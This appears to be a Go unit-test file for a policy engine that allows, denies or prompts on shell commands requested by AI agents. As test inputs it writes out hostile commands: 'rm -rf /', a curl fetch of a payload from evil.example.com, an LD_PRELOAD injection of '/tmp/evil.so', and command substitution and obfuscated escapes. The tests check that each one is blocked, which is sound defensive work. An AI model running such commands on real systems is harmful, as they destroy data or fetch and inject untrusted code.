package policy

import (
	"context"
	"testing"

	"github.com/stretchr/testify/require"
)

type fakeAllowlist struct {
	entries map[string]map[string]bool // agentID -> resolvedPath -> true
	used    []string
	added   []string
}

func newFakeAllowlist() *fakeAllowlist {
	return &fakeAllowlist{entries: make(map[string]map[string]bool)}
}

func (f *fakeAllowlist) allow(agentID, path string) {
	if f.entries[agentID] == nil {
		f.entries[agentID] = make(map[string]bool)
	}
	f.entries[agentID][path] = true
}

func (f *fakeAllowlist) Matches(ctx context.Context, agentID, resolvedPath string) (string, bool) {
	if f.entries[agentID] != nil && f.entries[agentID][resolvedPath] {
		return resolvedPath, true
	}
	return "", false
}

func (f *fakeAllowlist) RecordUse(ctx context.Context, agentID, pattern string) {
	f.used = append(f.used, pattern)
}

func (f *fakeAllowlist) Add(ctx context.Context, agentID, pattern string) error {
	f.added = append(f.added, pattern)
	f.allow(agentID, pattern)
	return nil
}

func fakeResolver(known map[string]string) PathResolver {
	return func(name string) (string, bool) {
		if p, ok := known[name]; ok {
			return p, true
		}
		return "", false
	}
}

func testEngine(al *fakeAllowlist, resolver PathResolver, cfg Config) *Engine {
	return NewEngine(cfg, al, NewSafeBinRegistry(), resolver)
}

func defaultTestConfig() Config {
	return Config{
		DefaultHost:     HostSandbox,
		DefaultSecurity: SecurityAllowlist,
		DefaultAsk:      AskOnMiss,
	}
}

func TestImmediateDenyBeatsEverything(t *testing.T) {
	e := testEngine(newFakeAllowlist(), fakeResolver(nil), defaultTestConfig())
	d := e.Evaluate(context.Background(), Request{Command: "rm -rf /", AgentID: "a1"})
	require.False(t, d.Allow)
	require.Contains(t, d.DenialReason, "immediate-deny")
}

func TestObfuscationDenied(t *testing.T) {
	e := testEngine(newFakeAllowlist(), fakeResolver(nil), defaultTestConfig())
	d := e.Evaluate(context.Background(), Request{Command: `echo $'\x41'`, AgentID: "a1"})
	require.False(t, d.Allow)
	require.Contains(t, d.DenialReason, "obfuscation")
}

func TestSecurityFullBypassesAllowlist(t *testing.T) {
	cfg := defaultTestConfig()
	cfg.DefaultSecurity = SecurityFull
	e := testEngine(newFakeAllowlist(), fakeResolver(map[string]string{"rando": "/usr/bin/rando"}), cfg)
	d := e.Evaluate(context.Background(), Request{Command: "rando --danger", AgentID: "a1"})
	require.True(t, d.Allow)
}

func TestSecurityDenyAlwaysDenies(t *testing.T) {
	cfg := defaultTestConfig()
	cfg.DefaultSecurity = SecurityDeny
	e := testEngine(newFakeAllowlist(), fakeResolver(map[string]string{"ls": "/bin/ls"}), cfg)
	d := e.Evaluate(context.Background(), Request{Command: "ls", AgentID: "a1"})
	require.False(t, d.Allow)
	require.Equal(t, "security-deny", d.DenialReason)
}

func TestAllowlistSatisfiedAllowsAndRecordsUse(t *testing.T) {
	al := newFakeAllowlist()
	al.allow("a1", "/usr/bin/customtool")
	e := testEngine(al, fakeResolver(map[string]string{"customtool": "/usr/bin/customtool"}), defaultTestConfig())

	d := e.Evaluate(context.Background(), Request{Command: "customtool --run", AgentID: "a1"})
	require.True(t, d.Allow)
	require.Equal(t, []string{"/usr/bin/customtool"}, al.used)
}

func TestAllowlistMissWithAskOffDenies(t *testing.T) {
	cfg := defaultTestConfig()
	cfg.DefaultAsk = AskOff
	e := testEngine(newFakeAllowlist(), fakeResolver(map[string]string{"mystery": "/usr/bin/mystery"}), cfg)
	d := e.Evaluate(context.Background(), Request{Command: "mystery", AgentID: "a1"})
	require.False(t, d.Allow)
	require.Equal(t, "allowlist-miss", d.DenialReason)
}

func TestAllowlistMissWithAskOnMissPrompts(t *testing.T) {
	e := testEngine(newFakeAllowlist(), fakeResolver(map[string]string{"mystery": "/usr/bin/mystery"}), defaultTestConfig())
	d := e.Evaluate(context.Background(), Request{Command: "mystery", AgentID: "a1"})
	require.False(t, d.Allow)
	require.True(t, d.Prompt)
}

func TestSafeBinSatisfiesWithoutAllowlist(t *testing.T) {
	e := testEngine(newFakeAllowlist(), fakeResolver(map[string]string{"ls": "/bin/ls"}), defaultTestConfig())
	d := e.Evaluate(context.Background(), Request{Command: "ls -la project", AgentID: "a1"})
	require.True(t, d.Allow)
	require.True(t, d.Segments[0].SafeBinSatisfied)
}

func TestSafeBinWithUnsafeArgsIsNotSatisfied(t *testing.T) {
	e := testEngine(newFakeAllowlist(), fakeResolver(map[string]string{"ls": "/bin/ls"}), defaultTestConfig())
	d := e.Evaluate(context.Background(), Request{Command: "ls $(whoami)", AgentID: "a1"})
	require.False(t, d.Segments[0].SafeBinSatisfied)
	require.True(t, d.Prompt)
}

func TestSandboxAutoAllowOverridesAsk(t *testing.T) {
	cfg := defaultTestConfig()
	cfg.DefaultAsk = AskAlways
	e := testEngine(newFakeAllowlist(), fakeResolver(map[string]string{"ls": "/bin/ls"}), cfg)
	d := e.Evaluate(context.Background(), Request{Command: "ls project", AgentID: "a1", Host: HostSandbox})
	require.Equal(t, AskOff, d.Resolved.Ask)
	require.True(t, d.Allow)
}

func TestNetworkDeniedHostBlocksSandboxCommand(t *testing.T) {
	cfg := defaultTestConfig()
	cfg.DefaultSecurity = SecurityFull
	cfg.DeniedHosts = []string{"evil.example.com"}
	e := testEngine(newFakeAllowlist(), fakeResolver(map[string]string{"curl": "/usr/bin/curl"}), cfg)
	d := e.Evaluate(context.Background(), Request{Command: "curl https://evil.example.com/payload", AgentID: "a1", Host: HostSandbox})
	require.False(t, d.Allow)
	require.Contains(t, d.DenialReason, "network-denied-host")
}

func TestHostEnvValidationRejectsDangerousKeyOutsideSandbox(t *testing.T) {
	cfg := defaultTestConfig()
	cfg.DefaultHost = HostGateway
	cfg.DefaultSecurity = SecurityFull
	e := testEngine(newFakeAllowlist(), fakeResolver(map[string]string{"ls": "/bin/ls"}), cfg)
	d := e.Evaluate(context.Background(), Request{Command: "ls", AgentID: "a1", Host: HostGateway, Env: map[string]string{"LD_PRELOAD": "/tmp/evil.so"}})
	require.False(t, d.Allow)
	require.Contains(t, d.DenialReason, "forbidden-env")
}

func TestHostMismatchWithoutElevationDenies(t *testing.T) {
	e := testEngine(newFakeAllowlist(), fakeResolver(nil), defaultTestConfig())
	d := e.Evaluate(context.Background(), Request{Command: "ls", AgentID: "a1", Host: HostNode})
	require.False(t, d.Allow)
	require.Equal(t, "host-mismatch", d.DenialReason)
}

func TestDryRunNeverChangesDecisionButAnnotates(t *testing.T) {
	e := testEngine(newFakeAllowlist(), fakeResolver(map[string]string{"mystery": "/usr/bin/mystery"}), defaultTestConfig())
	d := e.Evaluate(context.Background(), Request{Command: "mystery", AgentID: "a1", DryRun: true})
	require.Equal(t, "would-prompt", d.Verdict)
	require.NotEmpty(t, d.RiskIndicators)
	require.NotEmpty(t, d.Suggestions)
}

func TestCombineSecurityNarrowerWins(t *testing.T) {
	require.Equal(t, SecurityDeny, CombineSecurity(SecurityFull, SecurityDeny))
	require.Equal(t, SecurityAllowlist, CombineSecurity(SecurityFull, SecurityAllowlist))
}

func TestCombineAskBroaderWins(t *testing.T) {
	require.Equal(t, AskAlways, CombineAsk(AskOff, AskAlways))
	require.Equal(t, AskOnMiss, CombineAsk(AskOff, AskOnMiss))
}
